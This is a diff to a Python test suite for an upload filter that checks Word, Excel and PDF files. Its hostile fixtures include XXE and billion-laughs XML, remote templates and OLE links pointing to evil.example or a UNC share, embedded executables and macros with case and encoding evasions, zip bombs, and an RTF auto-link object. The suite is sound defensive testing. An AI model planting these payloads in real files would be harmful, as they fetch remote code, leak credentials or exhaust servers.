@@ -4,6 +4,7 @@ Each is a name as it is sent, what makes its bytes, and the status of the answer
 """
 
 import io
+import random
 import struct
 import zipfile
 import zlib
@@ -12,7 +13,6 @@ from collections.abc import Callable
 from document_samples import (
     DOC,
     PDF,
-    WORD_TYPES,
     XLS,
     XLSX,
     archive,
@@ -21,13 +21,17 @@ from document_samples import (
     ole,
     padded_pdf,
     picture,
+    relations,
     streamed,
+    types_with,
     written,
 )
 from docx import Document as WordFile
+from docx.opc.constants import RELATIONSHIP_TYPE as RELATION_TYPE
 from fpdf import FPDF
 from fpdf.enums import EncryptionMethod
 from openpyxl import Workbook
+from openpyxl.chart import BarChart, Reference
 from PIL import Image
 
 MB = 1024 * 1024
@@ -40,10 +44,12 @@ XXE = (
     b'<w:document xmlns:w="w"><w:t>&x;</w:t></w:document>'
 )
 LAUGHS = b'<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "%s">]><w:document>&b;</w:document>' % (b"&a;" * 1000)
-OUTSIDE = (
-    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
-    b'Type="attachedTemplate" Target="https://evil.example/macros.dotm" TargetMode="External"/></Relationships>'
-)
+OUTSIDE = relations("attachedTemplate", "https://evil.example/macros.dotm")
+SETTINGS = "word/_rels/settings.xml.rels"
+DOCUMENT = "word/_rels/document.xml.rels"
+TYPES = "[Content_Types].xml"
+OBJECT = b"application/vnd.openxmlformats-officedocument.oleObject"
+CHART = "word/embeddings/Microsoft_Excel_Worksheet.xlsx"
 
 
 def pdf(*pages: str, catalog: bytes = b"", **options: object) -> bytes:
@@ -93,12 +99,40 @@ def jpeg_flood() -> bytes:
     return data[:at] + struct.pack(">HH", 65_500, 65_500) + data[at + 4 :]
 
 
+def noise(size: int) -> bytes:
+    """Text that hardly shrinks, as a comment of XML."""
+    return b"<!--" + random.Random(1).randbytes(size // 2).hex().encode() + b"--></Relationships>"
+
+
+def linked_letter() -> bytes:
+    """A letter with a link, as python-docx writes relations."""
+    made = WordFile()
+    made.add_paragraph("The plan")
+    made.part.relate_to("https://example.com/plan?a=1&b=2", RELATION_TYPE.HYPERLINK, is_external=True)
+    target = io.BytesIO()
+    made.save(target)
+    return target.getvalue()
+
+
+def linked_sheet(links: int) -> bytes:
+    """A sheet with links and a chart, as openpyxl writes them."""
+    book = Workbook()
+    for number in range(1, links + 1):
+        book.active.cell(number, 1, number).hyperlink = f"https://example.com/{number}?of=the-items-of-this-long-list"
+    chart = BarChart()
+    chart.add_data(Reference(book.active, min_col=1, min_row=1, max_row=links))
+    book.active.add_chart(chart, "C3")
+    target = io.BytesIO()
+    book.save(target)
+    return target.getvalue()
+
+
 def nested_bomb() -> bytes:
     """A Word file with an archive of archives in it."""
     inner = archive({"zeros": bytes(20 * MB)})
     for _ in range(3):
         inner = archive({f"{number}.zip": inner for number in range(10)})
-    return docx({"word/embeddings/all.zip": inner})
+    return docx({"word/media/all.zip": inner})
 
 
 def sheet(rows: int) -> bytes:
@@ -138,17 +172,17 @@ HOSTILE: dict[str, Case] = {
     "macros under another case": ("a.docx", lambda: docx({"word/VBAPROJECT.BIN": b"1"}), 415),
     "macros under another name": (
         "a.docx",
-        lambda: docx({"[Content_Types].xml": WORD_TYPES + b"application/vnd.ms-office.vbaProject", "word/x.bin": b"1"}),
+        lambda: docx({TYPES: types_with(b"application/vnd.ms-office.vbaProject"), "word/x.bin": b"1"}),
         415,
     ),
     "a docm's type in a docx": (
         "a.docx",
-        lambda: docx({"[Content_Types].xml": WORD_TYPES + b"application/vnd.ms-word.document.macroEnabled.main+xml"}),
+        lambda: docx({TYPES: types_with(b"application/vnd.ms-word.document.macroEnabled.main+xml")}),
         415,
     ),
     "controls that run in a docx": (
         "a.docx",
-        lambda: docx({"[Content_Types].xml": WORD_TYPES + b"application/vnd.ms-office.activeX+xml"}),
+        lambda: docx({TYPES: types_with(b"application/vnd.ms-office.activeX+xml")}),
         415,
     ),
     "macros in a doc": ("a.doc", lambda: ole("WordDocument", "1Table", "_VBA_PROJECT"), 415),
@@ -169,15 +203,74 @@ HOSTILE: dict[str, Case] = {
     "pdf and zip as docx": ("a.docx", lambda: pdf() + docx(), 415),
     "zip as pdf": ("a.pdf", lambda: archive({"a.html": HTML}), 415),
     "flat bomb": ("a.docx", lambda: docx({f"word/{n}.xml": bytes(90 * MB) for n in range(3)}), 415),
-    "nested bomb": ("a.docx", nested_bomb, 201),  # nothing here unpacks what lies within
+    "nested bomb": ("a.docx", nested_bomb, 415),
     "flood of pixels": ("a.png", lambda: flood(60_000, 60_000), 415),
     "long flood of pixels": ("a.png", lambda: flood(2**31 - 1, 1), 415),
     "flood of pixels in a jpeg": ("a.jpg", jpeg_flood, 415),
-    "entities from outside": ("a.docx", lambda: docx({"word/document.xml": XXE}), 201),  # nobody here reads XML
-    "a billion laughs": ("a.docx", lambda: docx({"word/document.xml": LAUGHS}), 201),
-    "a template from outside": ("a.docx", lambda: docx({"word/_rels/settings.xml.rels": OUTSIDE}), 201),
+    "entities of another file": ("a.docx", lambda: docx({"word/document.xml": XXE}), 415),
+    "a billion laughs": ("a.docx", lambda: docx({"word/document.xml": LAUGHS}), 415),
+    "a template from outside": ("a.docx", lambda: docx({SETTINGS: OUTSIDE}), 415),
+    "a template from outside, in other letters": (
+        "a.docx",
+        lambda: docx(
+            {
+                SETTINGS.upper(): OUTSIDE.decode()
+                .replace('TargetMode="External"', "TargetMode='&#69;xternal'")
+                .encode("utf-16")
+            }
+        ),
+        415,
+    ),
+    "a template on a server": (
+        "a.docx",
+        lambda: docx({SETTINGS: relations("attachedTemplate", r"\\\\evil\x.dotm")}),
+        415,
+    ),
+    "a picture from outside": (
+        "a.docx",
+        lambda: docx({DOCUMENT: relations("image", "http://evil.example/1.png")}),
+        415,
+    ),
+    "a page that runs": (
+        "a.docx",
+        lambda: docx({DOCUMENT: relations("oleObject", "mhtml:http://evil.example!x")}),
+        415,
+    ),
+    "a link that is none": ("a.docx", lambda: docx({DOCUMENT: relations("x/hyperlink", "http://evil.example")}), 415),
+    "relations with entities": ("a.docx", lambda: docx({DOCUMENT: LAUGHS}), 415),
+    "endless relations": ("a.docx", lambda: docx({DOCUMENT: OUTSIDE[:-16] + noise(9 * MB)}), 415),
+    "two lists of relations": ("a.docx", lambda: docx({SETTINGS: OUTSIDE, SETTINGS.upper(): b"<a/>"}), 415),
+    "an object of another program": ("a.docx", lambda: docx({"word/embeddings/oleObject1.bin": ole("Contents")}), 415),
+    "an object in another folder": ("a.docx", lambda: docx({"word/media/image1.png": ole("\x01Ole10Native")}), 415),
+    "an object's type": ("a.docx", lambda: docx({TYPES: types_with(OBJECT)}), 415),
+    "an object's relation": ("a.docx", lambda: docx({DOCUMENT: relations("oleObject", "x.bin", "Internal")}), 415),
+    "a web page put in": ("a.docx", lambda: docx({DOCUMENT: relations("aFChunk", "x.html", "Internal")}), 415),
+    "a program put in": ("a.docx", lambda: docx({CHART: b"MZ" + bytes(100)}), 415),
+    "a script put in": ("a.docx", lambda: docx({"word/embeddings/run.js": b"alert(1)"}), 415),
+    "macros within": (
+        "a.docx",
+        lambda: docx({CHART: docx({TYPES: types_with(b"application/vnd.ms-office.vbaProject")})}),
+        415,
+    ),
+    "a template from outside within": ("a.docx", lambda: docx({CHART: docx({SETTINGS: OUTSIDE})}), 415),
+    "an archive that is no Office file within": ("a.docx", lambda: docx({CHART: archive({"a.exe": b"1"})}), 415),
+    "too deep within": ("a.docx", lambda: docx({CHART: docx({CHART: docx({CHART: XLSX})})}), 415),
+    "an old sheet's macros": (
+        "a.docx",
+        lambda: docx({TYPES: types_with(b"application/vnd.ms-excel.macrosheet+xml")}),
+        415,
+    ),
+    "a macro's type in other letters": (
+        "a.docx",
+        lambda: docx({TYPES: types_with(b"vba&#80;roject").decode().encode("utf-16")}),
+        415,
+    ),
+    "a file packed in a doc": ("a.doc", lambda: ole("WordDocument", "1Table", "\x01Ole10Native"), 415),
+    "a file packed in an xls": ("a.xls", lambda: ole("Workbook", "\x01Ole10Native"), 415),
+    "macros in a doc, in small letters": ("a.doc", lambda: ole("WordDocument", "_vba_project"), 415),
+    "rich text with an object": ("a.doc", lambda: b"{\\rtf1{\\object\\objautlink\\objupdate}}", 415),
     "pdf with a script": ("a.pdf", lambda: pdf(catalog=b"/OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>"), 201),
-    "pdf that starts a program": ("a.pdf", lambda: pdf(catalog=b"/OpenAction <</S /Launch /F (cmd.exe)>>"), 201),
+    "pdf that starts a program": ("a.pdf", lambda: pdf(catalog=b"/OpenAction <</S /Launch /F (cmd.exe)>>"), 415),
     "pdf with a program in it": ("a.pdf", carrying_pdf, 201),
     "locked pdf": ("a.pdf", locked_pdf, 201),  # it can be read by whoever has the password
     "locked docx": ("a.docx", lambda: ole("EncryptedPackage", "EncryptionInfo"), 415),
@@ -223,6 +316,31 @@ GENUINE: dict[str, Case] = {
     "letter that is not packed": (
         "Notes.docx",
         lambda: written(b"<w:document/>", io.BytesIO(), zipfile.ZIP_STORED),
+        201,
+    ),
+    "letter with a link": ("Links.docx", linked_letter, 201),
+    "sheet with a chart and ten thousand links": ("Register.xlsx", lambda: linked_sheet(10_000), 201),
+    "letter with a chart's sheet": (
+        "Chart.docx",
+        lambda: docx({CHART: linked_sheet(3), DOCUMENT: relations("package", "x", "Internal")}),
+        201,
+    ),
+    "letter with a letter with a chart": ("Charts.docx", lambda: docx({CHART: docx({CHART: sheet(3)})}), 201),
+    "letter of the firm's own template": (
+        "Firm.docx",
+        lambda: docx({SETTINGS: relations("attachedTemplate", r"file:///C:\Users\Ann\Templates\Firm.dotx")}),
+        201,
+    ),
+    "sheet that counts with another": (
+        "Sums.docx",
+        lambda: docx(
+            {"xl/externalLinks/_rels/externalLink1.xml.rels": relations("externalLinkPath", "Rates%202026.xlsx")}
+        ),
+        201,
+    ),
+    "sheet with a printer's settings": (
+        "Printed.docx",
+        lambda: docx({"xl/printerSettings/printerSettings1.bin": b"H\0P\0"}),
         201,
     ),
     "old letter": ("Old.doc", lambda: DOC, 201),
